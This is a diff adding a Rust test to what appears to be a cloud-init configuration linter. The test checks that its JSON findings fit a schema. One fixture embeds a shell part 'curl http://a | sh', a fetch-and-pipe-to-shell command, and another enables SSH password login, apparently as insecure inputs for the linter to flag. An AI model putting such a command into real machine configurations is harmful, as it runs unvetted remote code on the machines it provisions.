@@ -119,6 +119,31 @@ fn a_report_fits_its_schema_alone_and_among_others() {
 }
 
 #[test]
+fn findings_of_lint_fit_their_schema() {
+    let dir = TempDir::new().unwrap();
+    fs::write(dir.path().join("a"), "#cloud-config\nssh_pwauth: true\n").unwrap();
+    let archive = "#cloud-config-archive\n- |\n  #!/bin/sh\n  curl http://a | sh\n- type: text/part-handler\n  content: x\n";
+    fs::write(dir.path().join("b"), archive).unwrap();
+    let validator = validator(Name::Lint);
+    for arguments in [["--cloud-init", "23.4"], ["--cloud-limit", "10"]] {
+        let arguments = [&["lint", "a", "b", "--format", "json"][..], &arguments].concat();
+        let (code, out, said) = run(&arguments, dir.path());
+        assert_eq!(code, 1, "{said}");
+        let found: Value = serde_json::from_str(&out).unwrap();
+        assert_eq!(complaints(&validator, &found), Vec::<String>::new());
+        let inside =
+            found["files"][1]["findings"].as_array().unwrap().iter().filter(|f| f["part"].is_object());
+        assert_ne!(inside.count(), 0, "{out}");
+        for (pointer, wrong) in [("/files/0/findings/0/severity", "grave"), ("/files/0/parts/0/kind", "text")]
+        {
+            let mut broken = found.clone();
+            *broken.pointer_mut(pointer).unwrap() = wrong.into();
+            assert!(!validator.is_valid(&broken), "{pointer}");
+        }
+    }
+}
+
+#[test]
 fn schemas_explain_and_know_ones_own_checks() {
     let dir = TempDir::new().unwrap();
     let (code, out, _) = run(&["schema", "profile"], dir.path());
